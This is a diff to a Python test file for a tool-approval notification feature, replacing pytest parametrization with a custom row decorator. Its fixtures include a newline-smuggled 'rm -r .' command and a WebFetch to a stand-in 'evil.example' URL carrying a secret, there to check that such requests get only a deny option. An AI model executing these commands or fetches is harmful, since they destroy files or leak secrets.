@@ -6,8 +6,7 @@ import json
 from collections.abc import Sequence
 from typing import Any
 
-import pytest
-
+from tests.tooling.rows import every_row
 from trunkline.dialects.calls import read_call, reading_meta
 from trunkline.dialects.calls.names import usual_name
 from trunkline.dialects.context.envelope import encode_event
@@ -72,7 +71,7 @@ def test_an_approval_is_told_with_a_short_preview_and_ways_to_answer_for_who_may
     assert "actions" not in told(command("ls"), scope="view")
 
 
-@pytest.mark.parametrize(("risk", "line", "offered"), [
+@every_row(("risk", "line", "offered"), [
     ("low", "npm test", ["approve", "deny"]), ("medium", "npm test", ["approve", "deny"]),
     ("high", "npm test", ["deny"]), ("critical", "npm test", ["deny"]),
     ("low", "x" * PREVIEW_MOST, ["deny"]), ("low", "ls\nrm -r .", ["deny"]), ("low", "echo 'a  b'", ["deny"]),
@@ -81,7 +80,7 @@ def test_approving_is_offered_only_for_a_command_that_is_not_risky_and_whole(ris
     assert told(command(line, risk=risk))["actions"] == offered
 
 
-@pytest.mark.parametrize(("event", "body"), [
+@every_row(("event", "body"), [
     (approval(risk_level="low", tool_name="WebFetch", description="Fetch the docs", tool_input={"url": "https://evil.example/?q=secret"},
               preview=DescriptionPreview(text="Fetch the docs")), "Use WebFetch: Fetch the docs"),
     (approval(risk_level="medium", tool_name="Edit", description="Edit src/a.py", tool_input={"path": "src/a.py"},
@@ -105,7 +104,7 @@ def test_what_a_note_does_not_show_wholly_is_only_denied_or_opened_and_its_kind_
     assert (said["body"], said["actions"]) == (body, ["deny"])
 
 
-@pytest.mark.parametrize(("cwd", "body", "offered"), [
+@every_row(("cwd", "body", "offered"), [
     (FOLDER, "Run: make", ["approve", "deny"]), ("/etc", "Run in /etc: make", ["approve", "deny"]),
     ("", "Run in /: make", ["approve", "deny"]), (f"{FOLDER}/..", f"Run in {FOLDER}/..: make", ["approve", "deny"]),
     ("/" + "d" * PREVIEW_MOST, None, ["deny"])])
